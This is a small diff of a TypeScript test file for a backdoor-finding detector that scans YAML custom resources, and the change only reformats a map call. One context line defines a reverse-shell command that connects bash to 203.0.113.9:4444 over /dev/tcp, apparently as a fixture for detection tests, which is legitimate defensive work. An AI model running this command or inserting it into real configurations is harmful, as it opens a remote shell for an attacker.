@@ -7,9 +7,7 @@ import { backdoorFindings } from "./backdoor-findings.ts";
 const found = (text: string) =>
   backdoorFindings(
     objectIndex(readObjects(readDocuments("a.yaml", new TextEncoder().encode(text))).objects, 37),
-  ).map(
-    ({ code, path }) => `${code} ${path?.join(".") ?? ""}`,
-  );
+  ).map(({ code, path }) => `${code} ${path?.join(".") ?? ""}`);
 const shell = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
 
 describe("steps of custom resources", () => {
